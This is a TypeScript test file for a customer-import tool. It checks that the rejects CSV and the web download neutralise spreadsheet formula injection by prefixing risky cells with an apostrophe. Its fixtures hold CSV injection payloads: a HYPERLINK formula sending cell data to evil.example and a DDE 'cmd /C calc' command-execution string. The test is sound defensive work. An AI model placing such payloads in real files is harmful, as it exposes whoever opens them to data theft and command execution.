import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { describeEachCliStore, runCliInProcess } from '../../test/helpers/cli-in-process.js';
import { scratchFiles } from '../../test/helpers/import-files.js';
import type { Reject as WebReject } from '../web/api/types.js';
import { lookupMessage, messagesByLocale } from '../web/i18n/messages.js';
import { readCsvText } from '../web/features/import/parse-csv.js';
import { rejectsCsvFile, rowTextsOf, withRowText } from '../web/features/import/rejects-csv.js';
import type { Reject } from './canonical.js';
import { readRecords } from './readers/read-records.js';
import { createRejectsWriter } from './rejects-file.js';

// A security review: the rejects file (UTF-8 with a byte order mark, for a spreadsheet) wrote the imported
// file's text as it was, so a rejected row starting "=HYPERLINK(…)" ran as a formula when the file was opened.
const directory = mkdtempSync(join(tmpdir(), 'clientele-rejects-formulas-'));
const files = scratchFiles('rejects-formulas-cli');
afterAll(() => {
  rmSync(directory, { recursive: true, force: true });
  rmSync(files.directory, { recursive: true, force: true });
});

/** The rejects file's records, by their header's names (the byte order mark dropped). */
async function cellsOf(path: string): Promise<Array<Record<string, string | null>>> {
  const records: Array<Record<string, string | null>> = [];
  for await (const item of await readRecords(path)) if (item.kind === 'record') records.push(item.values);
  return records;
}

const reject = (line: number, reason: string, raw: string): Reject => ({ file: 'customers.csv', line, field: 'email', code: 'EMAIL_INVALID', params: {}, reason, raw });

describe('the rejects file guards spreadsheet formulas', () => {
  it('writes text from the file starting with = + - @ a tab or a carriage return after a \', the line numbers and a plain number as they are', async () => {
    const path = join(directory, 'customers.csv.rejects.csv');
    const writer = createRejectsWriter(path);
    await writer.write([
      reject(2, 'email "x" is not an email address', '=HYPERLINK("http://evil.example/?x"&B2;"click"),x,c1'),
      reject(3, '=Mail() (email) "y" is not an email address', '@SUM(1+1)*cmd|\' /C calc\'!A0,y,c2'),
      reject(4, 'email "z" is not an email address', '+1-1,z,c3'),
      reject(5, 'email "w" is not an email address', '-2+3@example.lv,w,c4'),
      reject(6, 'email "v" is not an email address', '\t=1+1,v,c5'),
      reject(7, 'email "u" is not an email address', '-5'),
      reject(8, 'email "t" is not an email address', 'Jānis,t,c6'),
    ]);
    await writer.close();
    const text = readFileSync(path, 'utf8');
    expect(text.split('\n')[1]).toBe('customers.csv,2,email,"email ""x"" is not an email address","\'=HYPERLINK(""http://evil.example/?x""&B2;""click""),x,c1"');
    expect((await cellsOf(path)).map(({ line, reason, raw }) => ({ line, reason, raw }))).toEqual([
      { line: '2', reason: 'email "x" is not an email address', raw: '\'=HYPERLINK("http://evil.example/?x"&B2;"click"),x,c1' },
      // a column named from the file leads the reason: guarded too
      { line: '3', reason: '\'=Mail() (email) "y" is not an email address', raw: '\'@SUM(1+1)*cmd|\' /C calc\'!A0,y,c2' },
      { line: '4', reason: 'email "z" is not an email address', raw: '\'+1-1,z,c3' },
      { line: '5', reason: 'email "w" is not an email address', raw: '\'-2+3@example.lv,w,c4' },
      { line: '6', reason: 'email "v" is not an email address', raw: '\'\t=1+1,v,c5' },
      { line: '7', reason: 'email "u" is not an email address', raw: '-5' },
      { line: '8', reason: 'email "t" is not an email address', raw: 'Jānis,t,c6' },
    ]);
  });
});

const tEn = (key: string, variables?: Record<string, string | number>) => lookupMessage(messagesByLocale.en, key, variables);

const formulaFile = [
  'name,email,external_id',
  '=HYPERLINK("http://evil.example/?x"&B2;"click"),not-an-email,c1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0,also bad,c2',
  '-2+3,still bad,c3',
  'Jānis Bērziņš,nope,c4',
].join('\n') + '\n';

describeEachCliStore('clientele import: the rejects file and the web app\'s rejects download guard formulas alike', (context) => {
  it('writes a formula-looking row with the same guarded cell as the web download, and --json keeps the row as written', async () => {
    const file = files.file(`${context.kind}-formulas.csv`, formulaFile);
    const result = await runCliInProcess(context.db, ['--json', 'import', 'customers', file]);
    expect(result.error).toBeNull();
    expect(result.exitCode).toBe(2);
    const summary = JSON.parse(result.stdout) as { rejectsSample: Array<Reject & { raw: string }> };
    // the exact text, for a program or for pasting a row back
    expect(summary.rejectsSample.map(({ line, raw }) => [line, raw])).toEqual([
      [2, '=HYPERLINK("http://evil.example/?x"&B2;"click"),not-an-email,c1'],
      [3, '@SUM(1+1)*cmd|\' /C calc\'!A0,also bad,c2'],
      [4, '-2+3,still bad,c3'],
      [5, 'Jānis Bērziņš,nope,c4'],
    ]);

    const cli = await cellsOf(`${file}.rejects.csv`);
    expect(cli.map(({ line, raw }) => [line, raw])).toEqual([
      ['2', '\'=HYPERLINK("http://evil.example/?x"&B2;"click"),not-an-email,c1'],
      ['3', '\'@SUM(1+1)*cmd|\' /C calc\'!A0,also bad,c2'],
      ['4', '\'-2+3,still bad,c3'],
      ['5', 'Jānis Bērziņš,nope,c4'],
    ]);

    // the web app: the server's rejects name a line, the page gives each its row's text from the file it read
    const serverRejects = summary.rejectsSample.map(({ raw: _raw, ...rest }) => rest as WebReject);
    const download = rejectsCsvFile(withRowText(serverRejects, rowTextsOf(readCsvText(formulaFile, 'formulas.csv'))), 'customers', tEn, 'en');
    const downloadPath = join(directory, `${context.kind}-download.csv`);
    writeFileSync(downloadPath, download);
    const web = await cellsOf(downloadPath);
    expect(web.map(({ line, raw }) => [line, raw])).toEqual(cli.map(({ line, raw }) => [line, raw]));
  }, 240_000);
});
